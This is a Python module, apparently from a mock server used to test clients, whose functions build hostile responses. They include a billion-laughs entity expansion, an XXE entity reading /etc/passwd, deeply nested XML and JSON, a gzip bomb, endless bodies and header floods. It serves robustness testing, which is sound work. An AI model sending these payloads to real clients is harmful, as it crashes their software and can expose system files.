"""Answers that attack the client."""

import itertools
import zlib

from .message import Answer

SOAP = b'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>'


def entities():
    """Billion laughs: ten steps of entities, each one ten times the one before."""
    steps = ['<!ENTITY a0 "ha">'] + [f"<!ENTITY a{n} \"{f'&a{n - 1};' * 10}\">" for n in range(1, 11)]
    return f"<?xml version=\"1.0\"?><!DOCTYPE e [{''.join(steps)}]>".encode() + SOAP + b"&a10;</s:Body></s:Envelope>"


def external():
    """An entity that names a file of the reader's machine."""
    return b'<?xml version="1.0"?><!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + SOAP + b"&x;</s:Body></s:Envelope>"


def zipped(megabytes, fill):
    """So many megabytes of one byte, as gzip."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = fill * (1 << 20)
    yield packer.compress(SOAP)
    for _ in range(megabytes):
        if piece := packer.compress(block):
            yield piece
    yield packer.flush()


def answer(name, action):
    """The attack of this name: entities, external, depth, json_depth, gzip, endless, endless_header, attributes."""
    kind = action.get("type", "text/xml; charset=utf-8")
    count = action.get("count", 100_000)
    if name == "entities":
        return Answer(200, entities(), kind=kind)
    if name == "external":
        return Answer(200, external(), kind=kind)
    if name == "depth":
        return Answer(200, SOAP + b"<d>" * count + b"</d>" * count + b"</s:Body></s:Envelope>", kind=kind)
    if name == "attributes":
        many = b"".join(b' a%d="1"' % number for number in range(count))
        return Answer(200, SOAP + b"<d" + many + b"/></s:Body></s:Envelope>", kind=kind)
    if name == "json_depth":
        return Answer(200, b"[" * count + b"]" * count, kind=action.get("type", "application/json"))
    if name == "gzip":
        return Answer(200, zipped(action.get("megabytes", 1024), b" "), [("Content-Encoding", "gzip")], kind)
    if name == "endless":
        piece = action.get("piece", "<x>endless</x>").encode() * 1000
        return Answer(200, itertools.chain([action.get("begin", SOAP.decode()).encode()], itertools.repeat(piece)), kind=kind)
    if name == "endless_header":
        fields = [(f"X-Filler-{number}", "x" * 1000) for number in range(count)]
        return Answer(200, b"", fields, kind)
    raise ValueError(name)
